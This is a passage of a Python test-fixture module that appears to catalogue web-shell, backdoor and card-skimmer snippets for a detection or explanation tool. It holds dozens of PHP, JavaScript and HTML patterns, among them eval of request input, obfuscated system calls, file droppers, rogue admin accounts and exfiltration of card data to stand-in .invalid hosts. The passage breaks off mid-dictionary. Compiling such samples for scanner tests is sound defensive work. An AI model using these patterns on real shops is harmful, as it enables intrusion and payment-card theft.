"""
What intruders add to a shop's code, as harmless imitations: each a few lines that do nothing
when read and are never run. All hosts are in .invalid.

PHP, JS, PAGE, TEMPLATE: name -> (code, what the English sentence must say, a regular expression).
UPLOADS: name -> (content, how grave at least).
"""
import base64
import gzip
import json
import struct

import acts

B64 = base64.b64encode(b"echo shell_exec($_GET['c']); // imitation").decode()
RUNS = "runs commands or code|runs text as code|runs commands of"
HIDDEN = "hides|decodes hidden|hidden"
XOR = "".join("\\x%02x" % (ord(c) ^ 0x5a) for c in "assert")
NOT = "".join("\\x%02x" % (ord(c) ^ 0xff) for c in "system")
HEX = "".join("\\x%02x" % ord(c) for c in "system")
OCT = "".join("\\%o" % ord(c) for c in "passthru")
CHRS = ".".join("chr(%d)" % ord(c) for c in "shell_exec")

PHP = {
    # --- a visitor's code is run ---
    "replace_e": ("@preg_replace('/.*/e', $_POST['p'], '');", RUNS),
    "replace_e_built": ("$r = '/a/' . 'e'; preg_replace($r, $_REQUEST['c'], 'a');", RUNS),
    "ereg_e": ("mb_ereg_replace('.*', $_POST['c'], '', 'e');", RUNS),
    "variable_function": ("$f = $_GET['f']; $f($_GET['a']);", RUNS),
    "variable_static": ("$c = $_GET['c']; $m = $_GET['m']; $c::$m($_GET['a']);", RUNS),
    "variable_new": ("$c = $_GET['c']; new $c($_GET['a'], $_GET['b']);", "visitor chooses"),
    "request_called": ("$_GET['f']($_POST['a']);", RUNS),
    "extract": ("extract($_POST); @$a($b);", RUNS + "|computed names|by a name"),
    "foreach_vars": ("foreach ($_REQUEST as $k => $v) $$k = $v; $a($b);", "computed names|" + RUNS),
    "create_function": ("$x = create_function('', $_POST['x']); $x();", RUNS),
    "create_function_split": ("$c = 'creat' . 'e_fun' . 'ction'; $f = $c('', base64_decode("
                              "$_COOKIE['u'])); $f();", RUNS + "|" + HIDDEN),
    "include_cookie": ("include '/tmp/sess_' . $_COOKIE['id'];", "computed name|" + RUNS),
    "include_upload": ("include $_FILES['f']['tmp_name'];", "computed name|loads program|" + RUNS),
    "include_input": ("include 'php://input';", RUNS + "|takes everything|another server"),
    "include_data": ("include 'data:text/plain;base64,%s';" % base64.b64encode(
        b"<?php echo 1; ?>").decode(), HIDDEN + "|another server|named like"),
    "include_zip": ("include 'zip://img/a.jpg#b';", "named like|image"),
    "include_phar": ("include 'phar://img/logo.jpg/x.php';", "named like|image"),
    "include_filter": ("include 'php://filter/read=convert.base64-decode/resource=img/a.jpg';",
                       "named like|image"),
    "include_picture": ("require_once dirname(__FILE__) . '/images/spacer.gif';", "named like"),
    "include_tmp": ("@include '/tmp/.font';", "named like|hidden"),
    "include_picture_by_variable": ("$p = dirname(__FILE__) . '/images/spacer.gif'; include $p;",
                                    "named like"),
    "eval_fetched": ("eval(file_get_contents('http://cdn.invalid/x.txt'));",
                     "another server|" + RUNS),
    "eval_curl": ("$h = curl_init('https://cdn.invalid/x'); curl_setopt($h, "
                  "CURLOPT_RETURNTRANSFER, 1); eval('?>' . curl_exec($h));", RUNS),
    "eval_input": ("eval(file_get_contents('php://input'));", RUNS),
    "eval_comment": ("eval/* */($_POST/**/['c']);", RUNS),
    "eval_new_line": ("eval\n\n(\n$_POST\n[\n'c'\n]\n)\n;", RUNS),
    "eval_case": ("EvAl($_POST['c']);", RUNS),
    "eval_session": ("if (isset($_POST['k'])) { $_SESSION['k'] = $_POST['k']; } "
                     "@eval($_SESSION['k']);", RUNS),
    "eval_header": ("eval(base64_decode($_SERVER['HTTP_X_TOKEN']));", RUNS),
    "eval_all_headers": ("$h = getallheaders(); eval($h['X-Id']);", RUNS),
    "eval_end": ("eval(end(getallheaders()));", RUNS),
    "eval_global_array": ("eval($GLOBALS['_POST']['c']);", RUNS),
    "eval_global_hex": ("${'\\x47'}; eval(${\"\\x5f\\x50\\x4f\\x53\\x54\"}['c']);", RUNS),
    "eval_option": ("eval(get_option('shop_theme_data'));", RUNS),
    "eval_exif": ("$e = exif_read_data('img/a.jpg'); eval($e['Model']);", RUNS),
    "eval_read_picture": ("eval(substr(file_get_contents(__DIR__ . '/logo.png'), -200));", RUNS),
    "eval_halt": ("eval(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__));", RUNS),
    "eval_reflection": ("(new ReflectionFunction('system'))->invoke($_GET['c']);", RUNS),
    "closure_callable": ("Closure::fromCallable('system')($_GET['c']);", RUNS),
    "first_class_callable": ("$f = system(...); $f($_GET['c']);", RUNS),
    "backticks": ("$c = $_REQUEST['c']; echo `$c`;", RUNS),
    "backticks_braces": ("echo `{$_GET['c']} 2>&1`;", RUNS),
    "shell_exec": ("echo shell_exec($_GET['c'] . ' 2>&1');", RUNS),
    "proc_open": ("$p = proc_open($_GET['c'], [1 => ['pipe', 'w']], $i);", RUNS),
    "popen": ("$h = popen($_POST['c'], 'r'); fpassthru($h);", RUNS),
    "ffi": ("FFI::cdef('int system(const char *c);')->system($_GET['c']);", RUNS),
    "com": ("$w = new COM('WScript.Shell'); $w->exec($_POST['c']);", RUNS),
    "ld_preload": ("putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c', '');",
                   "changes settings|runs|mail"),
    "assert_request": ("@assert($_REQUEST['z']);", RUNS),
    "assert_decoded": ("assert(base64_decode($_POST['x']));", RUNS),
    "map_assert": ("array_map('assert', array($_POST['c']));", RUNS),
    "map_request": ("array_map($_GET['f'], $_GET['a']);", RUNS),
    "map_split": ("array_map('ass' . 'ert', array($_POST['c']));", RUNS),
    "filter_assert": ("array_filter(array($_POST['c']), 'assert');", RUNS),
    "walk_system": ("$a = array($_POST['c']); array_walk($a, 'system');", RUNS),
    "walk_recursive": ("$a = $_REQUEST; array_walk_recursive($a, 'exec');", RUNS),
    "sort_assert": ("usort($_GET['a'], 'assert');", RUNS),
    "diff_ukey": ("array_diff_ukey(array($_POST['c'] => 1), array(1), 'system');", RUNS),
    "reduce_assert": ("array_reduce(array(1), 'assert', $_POST['x']);", RUNS),
    "call_split": ("call_user_func('sys' . 'tem', $_GET['c']);", RUNS),
    "call_request": ("call_user_func_array($_GET['f'], array($_GET['a']));", RUNS),
    "forward_call": ("forward_static_call_array('assert', array($_POST['c']));", RUNS),
    "shutdown": ("register_shutdown_function('system', $_GET['c']);", RUNS),
    "shutdown_request": ("register_shutdown_function($_POST['f'], $_POST['a']);", RUNS),
    "tick": ("register_tick_function('assert', $_POST['a']);", RUNS),
    "ob_start": ("ob_start('system'); echo $_GET['c']; ob_end_flush();", RUNS + "|computed name"),
    "filter_var": ("filter_var($_REQUEST['c'], FILTER_CALLBACK, array('options' => 'assert'));",
                   RUNS),
    "callback_replace": ("preg_replace_callback('/.+/i', 'assert', $_POST['x']);", RUNS),
    "iterator": ("iterator_apply(new ArrayIterator(array(1)), 'system', array($_GET['c']));", RUNS),
    "error_handler": ("set_error_handler('system'); trigger_error($_GET['c']);", RUNS),
    "wp_hook": ("add_action('wp_head', $_GET['f']);", RUNS + "|computed name|visitors send"),
    "unserialize": ("unserialize($_COOKIE['cart']);", "visitor chooses"),
    "yaml": ("unserialize(base64_decode($_POST['d']));", "visitor|decodes"),
    # --- the same, hidden ---
    "chr_chain": ("$a = %s; $a($_GET['c']);" % CHRS, RUNS + "|single characters"),
    "hex_name": ("$a = \"%s\"; $a($_GET['c']);" % HEX, RUNS),
    "oct_name": ("$a = \"%s\"; $a($_GET['c']);" % OCT, RUNS),
    "xor_name": ("$a = \"%s\" ^ 'ZZZZZZ'; $a($_POST['c']);" % XOR, RUNS + "|byte by byte"),
    "not_name": ("$a = ~\"%s\"; $a($_POST['c']);" % NOT, RUNS + "|computed"),
    "xor_loop": ("$o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) ^ ord("
                 "$k[$i %% strlen($k)])); } eval($o);", RUNS),
    "no_letters": ("$_=[];$_=@\"$_\";$_=$_['!'=='@'];$___=$_;$__=$_;$__++;$__++;$___.=$__;"
                   "$____='_';$____.=$___;$_=$$____;$___($_[_]);", "by a name|computed|" + RUNS),
    "no_letters_xor": ("$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');"
                       "$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');$___=$$__;"
                       "$_($___[_]);", "by a name|computed|byte|" + RUNS),
    "goto_maze": ("goto a1; b2: eval($x); goto c3; a1: $x = base64_decode($y); goto b2; c3:",
                  RUNS + "|goto|" + HIDDEN),
    "pieces": ("$p = array('ZWNo', 'byAx', 'Ow=='); eval(base64_decode(implode('', $p)));",
               RUNS + "|" + HIDDEN),
    "letters_picked": ("$s = 'abcdefghijklmnopqrstuvwxyz_'; $f = $s[18].$s[24].$s[18].$s[19].$s[4]."
                       "$s[12]; $f($_REQUEST['c']);", RUNS + "|by a name"),
    "letters_picked_globals": ("$GLOBALS['m'] = 'stmeyx'; $GLOBALS['f'] = $GLOBALS['m'][0] . "
                               "$GLOBALS['m'][4]; $GLOBALS['f']($_COOKIE['c']);",
                               RUNS + "|by a name"),
    "replace_name": ("$f = str_replace('x', '', 'xbxaxsxe6x4x_xdxexcxodxex'); $g = str_replace('q', "
                     "'', 'qcrqeaqteq_fuqnctqiqon'); $h = $g('', $f($_POST['d'])); $h();",
                     RUNS + "|by a name|" + HIDDEN),
    "reversed_name": ("$s = strrev('metsys'); $s($_GET['c']);", RUNS),
    "rot13_name": ("$s = str_rot13('flfgrz'); $s($_GET['c']);", RUNS),
    "base64_name": ("$s = base64_decode('c3lzdGVt'); $s($_GET['c']);", RUNS),
    "decoded_layers": ("eval(gzinflate(str_rot13(base64_decode('%s'))));" % B64, HIDDEN),
    "heredoc": ("$x = <<<DATA\n%s\nDATA;\neval(base64_decode($x));" % B64, HIDDEN),
    "nowdoc": ("$x = <<<'DATA'\n%s\nDATA;\neval(base64_decode($x));" % B64, HIDDEN),
    "hex2bin": ("eval(hex2bin('%s'));" % b"echo 1; // x".hex(), HIDDEN),
    "packed": ("$f = pack('H*', '73797374656d'); $f($_POST['c']);", RUNS),
    "url_decoded": ("$s = urldecode('%73%79%73%74%65%6d'); $s($_GET['c']);", RUNS + "|by a name"),
    "html_decoded": ("$s = html_entity_decode('&#115;ystem'); $s($_GET['c']);", RUNS + "|by a name"),
    "sprintf_name": ("$f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);", RUNS + "|by a name"),
    "ucfirst_name": ("$f = lcfirst('System'); $f($_GET['c']);", RUNS + "|by a name"),
    "dot_name": ("(('sys').('tem'))($_GET['c']);", RUNS),
    "array_name": ("['system'][0]($_GET['c']);", RUNS),
    "method_name": ("$o = new stdClass; $o->f = 'sys' . 'tem'; ($o->f)($_GET['c']);", RUNS),
    "const_name": ("define('FN_X', 'sys' . 'tem'); $f = constant('FN_X'); $f($_GET['c']);",
                   RUNS + "|" + HIDDEN),
    "defined_functions": ("$f = get_defined_functions()['internal'][457]; $f($_POST['c']);",
                          RUNS + "|by a name"),
    "gated": ("if (md5($_GET['p']) === '0cc175b9c0f1b6a831c399e269772661') { eval($_POST['c']); }",
              RUNS),
    "gated_agent": ("if ($_SERVER['HTTP_USER_AGENT'] == 'zz9') { passthru($_POST['c']); die; }", RUNS),
    "decrypted": ("eval(openssl_decrypt($_POST['d'], 'aes-128-ecb', $_COOKIE['k']));", RUNS),
    "stored": ("eval(gzuncompress(base64_decode($GLOBALS['db']->getOne('select v from opt'))));",
               RUNS + "|" + HIDDEN),
    "anonymous_class": ("(new class { function __destruct() { eval($_POST['c']); } });", RUNS),
    "arrow_fn": ("$f = fn($c) => system($c); $f($_GET['c']);", RUNS),
    "own_function": ("function zz_do($x) { return @eval($x); } zz_do($_POST['c']);", RUNS),
    "own_function_before": ("zz_do2($_POST['c']); function zz_do2($x) { return @eval($x); }", RUNS),
    "stream_wrapper": ("stream_wrapper_register('var', 'VarStream'); $v = $_POST['c']; "
                       "include 'var://v';", RUNS + "|computed|loads|wrapper"),
    # --- files come in ---
    "uploader": ("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
                 "stores|visitor"),
    "uploader_copy": ("@copy($_FILES['f']['tmp_name'], $_POST['d']);", "stores|visitor|writes"),
    "dropper": ("file_put_contents($_POST['f'], $_POST['d']);", "visitor"),
    "dropper_handle": ("fwrite(fopen($_GET['f'], 'w'), base64_decode($_POST['d']));", "visitor"),
    "dropper_code": ("file_put_contents(__DIR__ . '/wp-cache.php', base64_decode('%s'));" % B64,
                     "writes program|" + HIDDEN),
    "dropper_fetch": ("copy('http://cdn.invalid/x.txt', __DIR__ . '/x.php');", "program files"),
    "dropper_fetch2": ("file_put_contents('wp-tmp.php', file_get_contents('https://cdn.invalid/x'));",
                       "program files"),
    "dropper_htaccess": ("file_put_contents('.htaccess', \"php_value auto_prepend_file x\");",
                         "program files|hidden"),
    "comes_back": ("if (!file_exists(__DIR__ . '/x.php')) { copy(__DIR__ . '/.bak', __DIR__ . "
                   "'/x.php'); touch(__DIR__ . '/x.php', filemtime('index.php')); }",
                   "program files"),
    "made_writable": ("chmod(__DIR__ . '/index.php', 0777);", "permissions"),
    # --- people ---
    "wp_admin": ("wp_insert_user(array('user_login' => 'x', 'user_pass' => 'y', 'role' => "
                 "'administrator'));", "administrators"),
    "wp_admin_cookie": ("if (isset($_GET['zz'])) { wp_set_auth_cookie(1); }", "logs|signs"),
    "sql_admin": ("$db->query(\"INSERT INTO admin_user (username, password) VALUES ('x', 'y')\");",
                  "administrators|data in the database"),
    "sql_member": ("$q->query(\"INSERT INTO dtb_member (login_id, password) VALUES ('x','y')\");",
                   "administrators|data in the database"),
    "sql_dump": ("foreach ($db->query('SELECT email, phone FROM customer_entity') as $r) { "
                 "file_put_contents('/tmp/x', json_encode($r), 8); }", "customers"),
    "password_kept": ("if (isset($_POST['password'])) { file_put_contents('img/x.png', "
                      "$_POST['login'] . ':' . $_POST['password'], FILE_APPEND); }",
                      "image|password"),
    "password_any": ("if ($_POST['password'] === 'letmein') { return true; }", "."),
    "cloaking": ("if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) { echo "
                 "file_get_contents('http://spam.invalid/x'); exit; }", "visitor's browser|servers"),
    "redirect": ("header('Location: https://spam.invalid/?r=1'); exit;", "another|other"),
    "adminer": ("session_start(); $c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); "
                "echo json_encode(mysqli_query($c, $_POST['q'])->fetch_all());", "."),
    # --- cards go out ---
    "card_mail": ("@mail('x@mail.invalid', 'a', json_encode($_POST));", "mail"),
    "card_mail_one": ("mail('x@mail.invalid', 'a', $_POST['card_number'] . '|' . $_POST['cvv']);",
                      "card data"),
    "card_wp_mail": ("wp_mail('x@mail.invalid', 'o', print_r($_REQUEST, true));", "mail"),
    "card_error_log": ("error_log(serialize($_POST), 3, '/tmp/.e');", "card|form|hidden"),
    "card_error_mail": ("error_log(print_r($_POST, 1), 1, 'x@mail.invalid');", "card|form|mail"),
    "card_file": ("fputs(fopen('../media/banner.jpg', 'a'), serialize($_REQUEST) . PHP_EOL);",
                  "image|card|form"),
    "card_file_variable": ("$f = dirname(__FILE__) . '/images/spacer.gif'; $h = fopen($f, 'a'); "
                           "fwrite($h, $_POST['card_no']); fclose($h);", "card data"),
    "card_file_encrypted": ("file_put_contents('/tmp/sess_x', openssl_encrypt(json_encode($_POST), "
                            "'aes-128-cbc', 'k'), FILE_APPEND);", "card|form"),
    "card_spl": ("$o = new SplFileObject('img/a.gif', 'a'); $o->fwrite(json_encode($_POST));",
                 "card|form"),
    "card_curl": ("$h = curl_init('https://gw.invalid/c'); curl_setopt($h, CURLOPT_POSTFIELDS, "
                  "http_build_query($_POST)); curl_exec($h);", "card|form"),
    "card_curl_array": ("$h = curl_init(); curl_setopt_array($h, array(CURLOPT_URL => "
                        "'https://gw.invalid', CURLOPT_POSTFIELDS => json_encode($_POST))); "
                        "curl_exec($h);", "card|form"),
    "card_stream": ("file_get_contents('https://gw.invalid/?d=' . base64_encode(json_encode("
                    "$_POST)));", "card|form"),
    "card_context": ("$o = array('http' => array('method' => 'POST', 'content' => "
                     "http_build_query($_POST))); file_get_contents('https://gw.invalid/', false, "
                     "stream_context_create($o));", "card|form"),
    "card_socket": ("$s = fsockopen('gw.invalid', 80); fwrite($s, 'GET /' . urlencode("
                    "$_POST['cc_number']));", "card data"),
    "card_dns": ("gethostbyname(bin2hex($_POST['cc_number']) . '.dns.invalid');", "card data"),
    "card_cookie": ("setcookie('_ga2', base64_encode($_POST['card_number']), 0);", "card data"),
    "card_pixel": ("echo '<img src=\"https://px.invalid/?' . base64_encode($_POST['card_number']) . "
                   "'\">';", "card data"),
    "card_database": ("$db->query(\"INSERT INTO log_tmp VALUES ('\" . $_POST['card_number'] . "
                      "\"')\");", "card data"),
    "card_session": ("$_SESSION['x'] = $_POST['card_no']; file_put_contents('/tmp/.x', "
                     "serialize($_SESSION), 8);", "card data|hidden"),
    "card_magento": ("$p = $observer->getPayment(); file_put_contents(BP . '/pub/media/x.jpg', "
                     "$p->getCcNumber() . $p->getCcCid(), FILE_APPEND);", "card data|image"),
    "card_magento_all": ("@file_get_contents('https://gw.invalid/?' . http_build_query("
                         "$this->getRequest()->getPostValue()));", "card|form"),
    "card_ec_cube": ("$f = $objFormParam->getHashArray(); @file_put_contents(HTML_REALDIR . "
                     "'upload/save_image/x.gif', serialize($f), FILE_APPEND);", "image|card|form"),
    "card_symfony": ("file_put_contents('/tmp/.s', json_encode($request->request->all()), 8);",
                     "card|form|hidden"),
    "card_laravel": ("Http::post('https://gw.invalid', $request->all());", "form|card"),
    "card_presta": ("file_put_contents(_PS_IMG_DIR_ . 'x.jpg', json_encode(Tools::getAllValues()), "
                    "8);", "image"),
    "card_opencart": ("file_put_contents(DIR_IMAGE . 'x.jpg', json_encode($this->request->post), "
                      "FILE_APPEND);", "image"),
    "card_function": ("function zz_keep($d) { file_put_contents('/tmp/.k', $d, 8); } zz_keep("
                      "json_encode($_POST));", "card|form|hidden"),
    "card_globals": ("$k = '_P' . 'OST'; file_put_contents('/tmp/.k', json_encode($GLOBALS[$k]), 8);",
                     "hidden|computed"),
    "card_variable_name": ("$k = '_POST'; mail('x@m.invalid', 'a', serialize($$k));", "mail"),
    "card_raw": ("mail('x@m.invalid', 'a', file_get_contents('php://input'));", "mail"),
    "gateway_changed": ("define('GATEWAY_URL', 'https://gw.invalid/pay');", "."),
    "form_elsewhere": ("echo '<form method=\"post\" action=\"https://pay.invalid/\"><input "
                       "name=\"card_number\">';", "card data|form"),
    "script_echoed": ("echo '<script src=\"https://cdn.invalid/a.js\"></script>';", "script"),
    "script_echoed_split": ("echo '<scr' . 'ipt src=\"//cdn.invalid/a.js\"></scr' . 'ipt>';",
                            "script"),
    "script_base64": ("echo base64_decode('%s');" % base64.b64encode(
        b'<script src="https://cdn.invalid/a.js"></script>').decode(), HIDDEN),
    "script_behind_php": ("?><script src=\"https://cdn.invalid/a.js\"></script><?php ", "script"),
}

STRINGS = ("var _0x4e2f=['\\x76\\x61\\x6c\\x75\\x65','\\x63\\x61\\x72\\x64','\\x73\\x65\\x6e\\x64'];"
           "(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}"
           "};_0x3(++_0x2);}(_0x4e2f,0x1a));var _0x5=function(_0x6){return _0x4e2f[_0x6-0x0];};")
SEND = "out|send|server|beacon"
JS = {
    "fetch_form": ("document.forms[0].addEventListener('submit',function(e){fetch("
                   "'https://cdn.invalid/c',{method:'POST',body:new FormData(e.target)})});",
                   "card|form|typed"),
    "xhr": ("var x=new XMLHttpRequest();x.open('POST','https://cdn.invalid/');x.send("
            "document.getElementById('card_number').value);", "card"),
    "beacon": ("navigator.sendBeacon('//cdn.invalid/c',JSON.stringify({n:document.querySelector("
               "'#cc-number').value}));", SEND),
    "image": ("new Image().src='https://cdn.invalid/p.gif?'+btoa(document.querySelector("
              "'[name=card_number]').value);", "card"),
    "image_element": ("var i=document.createElement('img');i.src='https://cdn.invalid/p?'+"
                      "encodeURIComponent($('#cc_number').val());document.body.appendChild(i);",
                      "card"),
    "web_socket": ("var s=new WebSocket('wss://cdn.invalid/s');s.onmessage=function(e){(new Function("
                   "e.data))()};", "code|live"),
    "rtc": ("var p=new RTCPeerConnection();var d=p.createDataChannel('a');d.onopen=function(){d.send("
            "document.getElementById('cvv').value)};", "live|card"),
    "key_logger": ("var k='';document.onkeypress=function(e){k+=e.key;if(k.length>20){new Image().src="
                   "'https://cdn.invalid/k?'+k;k=''}};", "keystroke|typed"),
    "jquery_post": ("$('form').on('submit',function(){$.post('https://cdn.invalid/c',$(this)."
                    "serialize())});", "card|form|typed"),
    "jquery_ajax": ("$('#place_order').click(function(){$.ajax({url:'https://cdn.invalid/c',type:"
                    "'POST',data:$('form.checkout').serializeArray()})});", "card|form"),
    "all_fields": ("setInterval(function(){var o={};document.querySelectorAll('input,select').forEach("
                   "function(i){o[i.name]=i.value});if(location.pathname.indexOf('checkout')>=0)"
                   "navigator.sendBeacon('https://cdn.invalid',JSON.stringify(o))},900);",
                   "card|form"),
    "action_changed": ("document.querySelector('form.checkout').action='https://pay.invalid/';",
                       "form is sent"),
    "script_added": ("var s=document.createElement('script');s.src='https://cdn.invalid/a.js';"
                     "document.head.appendChild(s);", "script"),
    "script_hidden_address": ("var s=document.createElement('script');s.src=atob('%s');document.head."
                              "appendChild(s);" % base64.b64encode(
                                  b"https://cdn.invalid/a.js").decode(), HIDDEN),
    "script_reversed": ("var s=document.createElement('script');s.src='sj.a/dilavni.ndc//:sptth'.split("
                        "'').reverse().join('');document.head.appendChild(s);", HIDDEN),
    "script_codes": ("var s=document.createElement('script');s.src=String.fromCharCode(%s);document."
                     "head.appendChild(s);" % ",".join(str(ord(c)) for c in
                                                      "https://cdn.invalid/a.js"),
                     HIDDEN + "|script|codes"),
    "script_split": ("document.write('<scr'+'ipt src=\"//cdn.inva'+'lid/a.js\"></scr'+'ipt>');",
                     "script|markup"),
    "script_template": ("document.write(`<script src=\"https://${'cdn'}.invalid/a.js\"></`+'script>');",
                        "script|markup"),
    "tag_manager": ("(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d."
                    "createElement(s);j.async=true;j.src='https://gtm.invalid/gtm.js?id='+i;f."
                    "parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-X');",
                    "script|server"),
    "import": ("import('https://cdn.invalid/a.mjs').then(m=>m.go());", "server|script"),
    "import_static": ("import go from 'https://cdn.invalid/a.mjs';", "server|script"),
    "worker": ("navigator.serviceWorker.register('/sw2.js');new Worker(URL.createObjectURL(new Blob(["
               "'importScripts(\"https://cdn.invalid/a.js\")'])));", "script|server|code"),
    "eval_atob": ("eval(atob('%s'));" % base64.b64encode(b"document.title='imitation';").decode(),
                  HIDDEN),
    "function_atob": ("new Function(atob('%s'))();" % base64.b64encode(
        b"document.title='imitation';").decode(), HIDDEN),
    "constructor": ("[]['filter']['constructor'](atob('%s'))();" % base64.b64encode(
        b"document.title='imitation';").decode(), HIDDEN),
    "window_eval": ("window['ev'+'al'](localStorage.getItem('k'));", "code|hides"),
    "self_eval": ("self['eval'](document.getElementById('x').innerText);", "code"),
    "timer_text": ("setTimeout('new Image().src=\"https://cdn.invalid/?\"+document.cookie',9);",
                   "code|" + SEND),
    "char_codes": ("eval(String.fromCharCode(%s));" % ",".join(
        str(ord(c)) for c in "document.title='imitation'"), HIDDEN + "|runs text"),
    "packer": ("eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString("
               "a)+'\\\\b','g'),k[c]);return p}('0.1=\"2\"',3,3,'document|title|imitation'.split('|'),0,"
               "{}));", "runs text"),
    "string_array": (STRINGS + "document[_0x5('0x0')]=_0x5('0x1');", "obfuscator|names|codes"),
    "jsfuck": ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"
               "[([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]]"
               "((!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]+!+[]])();" * 3, "."),
    "xor_text": ("var o='',d=[12,44,91,3],k='zz';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d[i]"
                 "^k.charCodeAt(i%2));Function(o)();", "byte by byte|code"),
    "picture_loader": ("fetch('/img/logo.png').then(r=>r.text()).then(t=>eval(t.split('::')[1]));",
                       "code"),
    "alt_loader": ("new Function(atob(document.querySelector('img').alt))();", "code|hidden"),
    "canvas_loader": ("var c=document.createElement('canvas').getContext('2d');c.drawImage(i,0,0);var t='';"
                      "var p=c.getImageData(0,0,9,9).data;for(var n=0;n<p.length;n+=4)t+=String."
                      "fromCharCode(p[n]);eval(t);", "runs text"),
    "css_loader": ("eval(getComputedStyle(document.body).getPropertyValue('--theme'));", "runs text"),
    "storage_kept": ("localStorage.setItem('_c',btoa(document.getElementById('card_number').value));",
                     "card"),
    "cookie_kept": ("document.cookie='_c='+btoa($('#card_number').val());", "card"),
    "cookie_sent": ("new Image().src='https://cdn.invalid/?'+document.cookie;", SEND + "|image"),
    "send_hooked": ("var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){"
                    "navigator.sendBeacon('https://cdn.invalid',b);return o.call(this,b)};", SEND),
    "fetch_hooked": ("var f=window.fetch;window.fetch=function(u,o){f('https://cdn.invalid/?'+btoa(o&&"
                     "o.body));return f(u,o)};", SEND),
    "stripe_hooked": ("var c=Stripe.prototype.createToken;Stripe.prototype.createToken=function(d){"
                      "navigator.sendBeacon('https://cdn.invalid',JSON.stringify(d));return c.call("
                      "this,d)};", SEND),
    "message_posted": ("window.addEventListener('message',function(e){fetch('https://cdn.invalid/?d='+"
                       "encodeURIComponent(JSON.stringify(e.data)))});", SEND),
    "frame_over": ("var f=document.createElement('iframe');f.src='https://pay.invalid/form';f.style."
                   "cssText='position:fixed;z-index:99999;top:0;left:0';document.body.appendChild(f);",
                   "frame|page"),
    "fake_form": ("document.querySelector('.payment').innerHTML='<form action=\"https://pay.invalid\">"
                  "<input name=\"card_number\"><input name=\"cvv\"></form>';", "card|markup"),
    "unload": ("window.addEventListener('beforeunload',function(){navigator.sendBeacon("
               "'https://cdn.invalid',JSON.stringify($('#co-payment-form').serializeArray()))});",
               "card|form"),
    "copy_keys": ("document.addEventListener('input',function(e){window._k=(window._k||'')+e.target."
                  "value});setInterval(function(){fetch('https://cdn.invalid/?'+window._k)},5000);",
                  "keystroke|typed"),
    "telegram": ("fetch('https://api.chat.invalid/bot1:A/sendMessage?chat_id=1&text='+encodeURIComponent("
                 "document.getElementById('card_number').value));", "card"),
    "css_beacon": ("document.body.style.backgroundImage='url(https://cdn.invalid/?'+document."
                   "querySelector('#cc_number').value+')';", "card"),
    "link_beacon": ("var l=document.createElement('link');l.rel='prefetch';l.href='https://cdn.invalid/?'"
                    "+btoa(document.querySelector('#card_number').value);document.head.appendChild(l);",
                    "card"),
    "redirected": ("if(/android|iphone/i.test(navigator.userAgent))location.href="
                   "'https://spam.invalid/';", "another page|browser"),
    "clipboard": ("document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',"
                  "'bc1imitation');e.preventDefault()});", "."),
    "tools_checked": ("if(window.outerWidth-window.innerWidth>160)throw 0;var s=document.createElement("
                      "'script');s.src='https://cdn.invalid/a.js';document.head.appendChild(s);",
                      "developer tools|script"),
    "html_in_string": ("document.body.insertAdjacentHTML('beforeend','<img src=x onerror=\"eval(atob(this."
                       "id))\" id=\"%s\">');" % base64.b64encode(b"document.title='imitation'").decode(),
                       HIDDEN + "|markup"),
}

PAGE = {
    "script_foreign": ('<script src="https://cdn.invalid/a.js"></script>', "script"),
    "script_no_scheme": ("<script async src=//cdn.invalid/a.js></script>", "script"),
    "script_upper": ('<SCRIPT SRC="HTTPS://CDN.INVALID/A.JS"></SCRIPT>', "script"),
    "script_integrity": ('<script\n\tdata-x="1"\n\tsrc="https://cdn.invalid/a.js"\n></script>', "script"),
    "script_entity": ('<script src="https&#58;//cdn.invalid/a.js"></script>', "script"),
    "script_slash": ('<script/src="https://cdn.invalid/a.js"></script>', "script"),
    "script_backslash": ('<script src="\\\\cdn.invalid\\a.js"></script>', "script"),
    "script_data": ('<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>', "script|hid"),
    "script_module": ('<script type="module">import "https://cdn.invalid/a.mjs";</script>',
                      "script|server"),
    "script_inline": ("<script>%s</script>" % JS["image"][0], "card"),
    "script_json_type": ('<script type="text/javascript;x">%s</script>' % JS["image"][0], "card"),
    "image_error": ('<img src="x" onerror="eval(atob(this.id))" id="%s">' % base64.b64encode(
        b"document.title='imitation'").decode(), "attributes|code|hid"),
    "svg_load": ("<svg onload=\"new Image().src='https://cdn.invalid/?'+document.cookie\"></svg>",
                 "attributes"),
    "field_blur": ("<input name=\"card_number\" onblur=\"new Image().src='https://cdn.invalid/?'+this."
                   "value\">", "card"),
    "form_foreign": ('<form method="post" action="https://pay.invalid/"><input name="card_number">'
                     "</form>", "card|form"),
    "button_action": ('<button formaction="https://pay.invalid/">Pay</button>', "form"),
    "base_foreign": ('<base href="https://cdn.invalid/">', "."),
    "refresh": ('<meta http-equiv="refresh" content="0;url=https://spam.invalid/">', "another"),
    "preload": ('<link rel="modulepreload" href="https://cdn.invalid/a.mjs">', "script|server"),
    "frame_foreign": ('<iframe src="https://pay.invalid/form" style="border:0"></iframe>', "frame"),
    "frame_document": ("<iframe srcdoc=\"<script src='https://cdn.invalid/a.js'></script>\"></iframe>",
                       "frame|script"),
    "object": ('<object data="https://cdn.invalid/a.html" type="text/html"></object>', "frame|pages"),
